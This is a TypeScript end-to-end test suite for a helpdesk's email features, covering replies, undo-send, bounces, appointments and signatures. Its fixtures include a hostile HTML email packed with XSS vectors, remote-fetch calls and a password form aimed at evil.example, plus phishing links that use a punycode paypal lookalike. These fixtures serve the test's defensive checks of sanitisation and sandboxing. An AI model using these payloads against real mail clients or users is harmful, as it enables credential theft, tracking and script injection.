/** Letters, from a real mailbox to the desk and back, in a real browser; and a letter that attacks whoever opens it. */
import assert from 'node:assert/strict'
import { test, type TestContext } from 'node:test'
import type { Page } from 'playwright-core'
import { program } from '../browser.ts'
import { openDovecot, type Dovecot } from '../dovecot.ts'
import { eventually } from '../harness.ts'
import { outgoingServer } from '../mail-house.ts'
import { atDesk, beAvailable, looksOf, openMailbox, patienceMs, queueWith, takesUp } from '../story.ts'

const look = looksOf('letters')

/** One red dot. */
const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg=='

const htmlLetter = (id: string, html: string, text: string, head: string[] = []) =>
  [
    'From: Eva Ruiz <eva@example.org>',
    'To: Brisa <help@shop.example>',
    'Cc: Jon Lind <jon@example.org>',
    'Subject: The kettle whistles at night',
    `Message-ID: <${id}@example.org>`,
    'MIME-Version: 1.0',
    ...head,
    'Content-Type: multipart/mixed; boundary=m',
    '',
    '--m',
    'Content-Type: multipart/related; boundary=r',
    '',
    '--r',
    'Content-Type: multipart/alternative; boundary=a',
    '',
    '--a',
    'Content-Type: text/plain; charset=utf-8',
    '',
    text,
    '',
    'On 3 May 2026 Brisa wrote:',
    '> Your kettle is on its way.',
    '',
    '--a',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '--a--',
    '--r',
    'Content-Type: image/png',
    'Content-ID: <dot@example.org>',
    'Content-Disposition: inline; filename=dot.png',
    'Content-Transfer-Encoding: base64',
    '',
    dot,
    '--r--',
    '--m',
    'Content-Type: application/pdf; name=receipt.pdf',
    'Content-Disposition: attachment; filename=receipt.pdf',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from('%PDF-1.4 a receipt').toString('base64'),
    '--m--',
    '',
  ].join('\r\n')

const bounceOf = (messageId: string) =>
  [
    'From: Mail Delivery <mailer-daemon@example.org>',
    'To: help@shop.example',
    'Subject: Undelivered',
    'Message-ID: <bounce@example.org>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status; boundary=r',
    '',
    '--r',
    'Content-Type: message/delivery-status',
    '',
    'Final-Recipient: rfc822; jon@example.org',
    'Action: failed',
    'Status: 5.1.1',
    'Diagnostic-Code: smtp; 550 no such user',
    '',
    '--r',
    'Content-Type: message/rfc822',
    '',
    `Message-ID: ${messageId}`,
    '',
    '--r--',
    '',
  ].join('\r\n')

/** A workspace with a mailbox on a real server, and Ana who answers there. */
const setUp = async (t: TestContext, dovecot: Dovecot) => {
  const house = await program(t)
  const { call } = house
  const out = await outgoingServer(t)
  const ana = await house.person('Ana Ruiz', 'agent')
  const queueId = await queueWith(house, 'Letters', [ana])
  await call('POST', '/api/answers', {
    shortcut: 'seal',
    title: { en: 'New seal', es: 'Junta nueva' },
    text: { en: 'Dear {customer}, a new seal is in the post.', es: 'Hola, {customer}: va una junta nueva.' },
    subject: { en: 'Your new seal', es: 'Tu junta nueva' },
    needId: null,
    queueIds: [],
    cues: [],
  })
  const signature = { en: 'Brisa, every day from 9 to 18', es: 'Brisa, cada día de 9 a 18' }
  await openMailbox(house, { dovecot, outPort: out.port, queueId }, { signature })
  return { ...house, out, ana, queueId }
}

const answers = async (page: Page): Promise<void> => {
  await takesUp(page)
  await page.getByRole('log').getByRole('article').first().waitFor()
}

test('a letter is read, answered, undone once, sent, and comes back', { timeout: 240_000 }, async (t) => {
  const dovecot = await openDovecot(t)
  if (!dovecot) return
  const house = await setUp(t, dovecot)
  await atDesk(t, house, house.ana, async ({ page }) => {
    await beAvailable(page)
    const html =
      '<p>The <b>kettle</b> whistles.</p><img src="cid:dot@example.org" alt="the dot" width="40" height="40">'
    await dovecot.deliver('help', htmlLetter('first', html, 'The kettle whistles at night. Can you help?'))
    await answers(page)
    const log = page.getByRole('log')
    const first = log.getByRole('article', { name: 'Eva Ruiz' })
    await log.getByRole('heading', { name: 'The kettle whistles at night' }).waitFor()
    await first.getByText('The kettle whistles at night. Can you help?').waitFor()
    await first.getByText('a claim').waitFor()
    await first.getByRole('link', { name: 'Download receipt.pdf' }).waitFor()
    assert.equal(await first.getByText('Your kettle is on its way.').count(), 0)
    await first.getByRole('button', { name: 'Show what was quoted' }).click()
    await first.getByText('Your kettle is on its way.').waitFor()
    await first.getByRole('button', { name: 'Show as sent' }).click()
    const inside = page.frameLocator('iframe')
    await inside.getByAltText('the dot').waitFor()
    assert.match((await inside.getByAltText('the dot').getAttribute('src')) ?? '', /^data:image\/png/)
    await look(page, 'read')

    // reply to all with a template and a copy, by keys
    const cue = page.getByText('Greet Eva by name.')
    await page.getByRole('log').focus()
    await page.keyboard.press('a')
    const text = page.getByRole('textbox', { name: 'Text of the letter' })
    await text.waitFor()
    await page.getByRole('button', { name: 'Remove jon@example.org' }).waitFor()
    await page.getByRole('combobox', { name: 'Cc', exact: true }).fill('ben@example.org,')
    await text.click()
    await cue.waitFor()
    const met = page.waitForResponse((answer) => answer.url().endsWith('/cue/draft'))
    await text.pressSequentially('/seal')
    await page.getByRole('option', { name: /New seal/ }).waitFor()
    await page.keyboard.press('Enter')
    await page.keyboard.type('\n\nIt takes **two days**.')
    await page.getByText(/^Kept /).waitFor()
    await page.getByRole('navigation', { name: 'Conversations' }).getByText('Draft:').waitFor()
    // what the draft already does is not asked for
    await met
    assert.equal(await cue.count(), 0)
    await look(page, 'write')
    // it is there on another device
    await page.reload()
    await text.waitFor()
    assert.match(await text.inputValue(), /^Dear Eva, a new seal is in the post\.\n\nIt takes \*\*two days\*\*\.$/)
    await text.focus()
    await page.keyboard.press('Control+Enter')
    await page.getByRole('timer').waitFor()
    await page.getByRole('button', { name: /^Undo/ }).click()
    await text.waitFor()
    assert.equal(house.out.sent.length, 0)
    await page.keyboard.press('Control+Enter')
    await page.getByRole('timer').waitFor()
    const [sent] = await eventually(async () => (house.out.sent.length > 0 ? house.out.sent : undefined), patienceMs)
    assert.deepEqual(sent?.to, ['eva@example.org', 'jon@example.org', 'ben@example.org'])
    assert.match(sent.message, /<b>two days<\/b>/)
    assert.match(sent.message, /It takes two days\./)
    assert.match(sent.message, /Brisa, every day from 9 to 18/)
    assert.equal(house.out.sent.length, 1)

    const messageId = /^Message-ID: (.*)$/im.exec(sent.message)?.[1]?.trim() ?? ''
    await dovecot.deliver('help', bounceOf(messageId))
    await page
      .getByRole('alert')
      .getByText(/550 no such user/)
      .waitFor()
    await page.getByRole('button', { name: 'Send again' }).waitFor()
    await look(page, 'failed')

    // from the customer's page, with somebody else who is known
    await house.call('POST', '/api/customers', { externalId: 'c-7', name: 'Mila Ortega', email: 'mila@example.org' })
    await page.goto(`${house.url}/customers`)
    await page.getByRole('link', { name: /Eva Ruiz/ }).click()
    await page.getByRole('button', { name: 'New letter' }).click()
    await page.getByRole('button', { name: 'Remove eva@example.org' }).waitFor()
    const to = page.getByRole('combobox', { name: 'To', exact: true })
    await to.pressSequentially('mil')
    await page.getByRole('option', { name: /Mila Ortega/ }).waitFor()
    await look(page, 'suggested')
    await to.press('Enter')
    await page.getByRole('button', { name: 'Remove mila@example.org' }).waitFor()
    assert.equal(await to.inputValue(), '')
  })
})

const attack = `<html><head><style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/go"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/c.css"></head>
<body onload="parent.evil=1" style="background:url(https://evil.example/d.png)">
<script>parent.evil=1;fetch('https://evil.example/s')</script><img src=x onerror="parent.evil=1"><img src="https://evil.example/pixel.png" alt="remote">
<svg onload="parent.evil=1"><script>parent.evil=1</script></svg><iframe src="https://evil.example/f"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/form"><input name=password><button>Sign in</button></form>
<div style="position:fixed;inset:0;z-index:9;background-image:url(https://evil.example/e.png)">covering</div>
<a href="javascript:parent.evil=1">press me</a><video src="https://evil.example/v" autoplay></video><p>harmless words</p></body></html>`

const misleading = `<p>Dear customer,</p><p>your account is blocked. Sign in at <a href="https://collect.example/login">https://www.mybank.example/login</a>
within a day, or write to <a href="mailto:help@shop.example">help@shop.example</a>.</p>
<p><a style="font-size:0px;color:#ffffff" href="https://xn--pypal-4ve.com/pay"><b style="font-size:14px;color:#000000">Pay now</b></a></p>`

test(
  'links that are not what they seem are told above the letter and where they stand',
  { timeout: 120_000 },
  async (t) => {
    const dovecot = await openDovecot(t)
    if (!dovecot) return
    const house = await setUp(t, dovecot)
    await atDesk(t, house, house.ana, async ({ page }) => {
      await beAvailable(page)
      await dovecot.deliver('help', htmlLetter('misleading', misleading, 'Your account is blocked.'))
      await answers(page)
      await page.getByRole('button', { name: 'Show as sent' }).click()
      const note = page.getByRole('note')
      await note.getByText('2 links in this letter are not what they seem').waitFor()
      await note.getByText(/Its words say .*www\.mybank\.example.*leads to .*collect\.example/).waitFor()
      await note.getByText(/It reads as .*pаypal\.com.*the address is .*xn--pypal-4ve\.com/).waitFor()
      const marks = await page.evaluate<string[]>(`(() => {
      const { contentDocument: d } = document.querySelector('iframe')
      return [...d.querySelectorAll('a')].map((one) => {
        const { content, display, fontSize } = d.defaultView.getComputedStyle(one, '::after')
        return content === 'none' ? '' : [content.replace(/["\\s\ufe0e\u26a0]/g, ''), display, fontSize].join(' ')
      })
    })()`)
      assert.deepEqual(marks, ['collect.example inline 12px', '', 'xn--pypal-4ve.com inline 12px'])
      await look(page, 'misleading')
    })
  },
)

test('a letter that attacks shows nothing that acts, and nothing leaves the page', { timeout: 120_000 }, async (t) => {
  const dovecot = await openDovecot(t)
  if (!dovecot) return
  const house = await setUp(t, dovecot)
  await atDesk(t, house, house.ana, async ({ page, complaints }) => {
    const elsewhere: string[] = []
    page.on('request', (request) => {
      const { hostname, protocol } = new URL(request.url())
      if (/^https?:$/.test(protocol) && hostname !== '127.0.0.1') elsewhere.push(request.url())
    })
    // loopback only: what is asked of elsewhere is answered by nobody
    await page.context().route(/evil\.example/, (route) => route.abort())
    await beAvailable(page)
    await dovecot.deliver('help', htmlLetter('attack', attack, 'harmless words'))
    await answers(page)
    await page.getByRole('button', { name: 'Show as sent' }).click()
    const inside = page.frameLocator('iframe')
    await inside.getByText('harmless words').waitFor()
    const found = await page.evaluate<string[]>(`(() => {
      const { contentDocument: d } = document.querySelector('iframe')
      const bad = [...d.body.querySelectorAll('script,form,input,button,iframe,object,embed,svg,video,link,meta,base,style')].map((one) => one.tagName)
      for (const one of d.body.querySelectorAll('*')) {
        for (const { name, value } of one.attributes) if (/^on/i.test(name) || /javascript:|url\\(/i.test(value)) bad.push(name + '=' + value)
        if (getComputedStyle(one).position === 'fixed') bad.push('fixed')
      }
      if (window.evil) bad.push('a script ran')
      return bad
    })()`)
    assert.deepEqual(found, [])
    assert.equal(
      await page.locator('iframe').getAttribute('sandbox'),
      'allow-same-origin allow-popups allow-popups-to-escape-sandbox',
    )
    await page.getByText(/picture.? on (another|other) server/).waitFor()
    assert.deepEqual(elsewhere, [])
    // whoever asks for them gets pictures and nothing else; a claim is not trusted for good
    assert.equal(await page.getByRole('button', { name: /^Always for/ }).count(), 0)
    complaints.allow(/evil\.example|Failed to load/)
    await page.getByRole('button', { name: /^Show (?:it|them) once$/ }).click()
    await eventually(async () => elsewhere.length > 0 || undefined, patienceMs)
    assert.deepEqual([...new Set(elsewhere)], ['https://evil.example/pixel.png'])
  })
})

const invitation = (method: string, start: string, location = 'Workshop, Calle Mayor 3'): string =>
  [
    'From: Eva Ruiz <eva@example.org>',
    'To: help@shop.example',
    'Subject: The technician',
    `Message-ID: <invitation-${method}-${start}@example.org>`,
    `Content-Type: text/calendar; charset=utf-8; method=${method}`,
    '',
    'BEGIN:VCALENDAR',
    `METHOD:${method}`,
    'BEGIN:VEVENT',
    'UID:visit-7@example.org',
    'SUMMARY:Technician looks at the kettle',
    `DTSTART:${start}`,
    `LOCATION:${location}`,
    'ORGANIZER;CN=Eva Ruiz:mailto:eva@example.org',
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n')

test(
  'an appointment that a later letter moves or cancels says so in the earlier one, in a conversation that is open',
  { timeout: 120_000 },
  async (t) => {
    const dovecot = await openDovecot(t)
    if (!dovecot) return
    const house = await setUp(t, dovecot)
    await atDesk(t, house, house.ana, async ({ page }) => {
      await beAvailable(page)
      await dovecot.deliver('help', invitation('REQUEST', '20261201T100000Z'))
      await answers(page)
      const log = page.getByRole('log')
      await log.getByRole('region', { name: 'Appointment', exact: true }).waitFor()
      await dovecot.deliver('help', invitation('REQUEST', '20261203T090000Z', 'Shop, Plaza 1'))
      const moved = log.getByRole('region', { name: 'Appointment moved' })
      await moved.getByText('By a later letter').waitFor()
      await moved.getByText('Where: Shop, Plaza 1').waitFor()
      await look(page, 'appointment-moved')
      await dovecot.deliver('help', invitation('CANCEL', '20261203T090000Z'))
      await log.getByRole('region', { name: 'Appointment cancelled' }).nth(1).waitFor()
      await look(page, 'appointment-cancelled')
      // how a letter is signed stands apart from what it says, and is there when asked for
      const signed = [
        'From: Eva Ruiz <eva@example.org>',
        'To: help@shop.example',
        'Subject: Re: The technician',
        'Message-ID: <signed@example.org>',
        'In-Reply-To: <invitation-REQUEST-20261201T100000Z@example.org>',
        '',
        'See you then.',
        '',
        '-- ',
        'Eva Ruiz, 611 000 111',
        '',
      ]
      await dovecot.deliver('help', signed.join('\r\n'))
      await log.getByText('See you then.').waitFor()
      assert.equal(await log.getByText('611 000 111').count(), 0)
      await log.getByRole('button', { name: 'Show the signature' }).click()
      await log.getByText('611 000 111').waitFor()
      await look(page, 'signature')
    })
  },
)
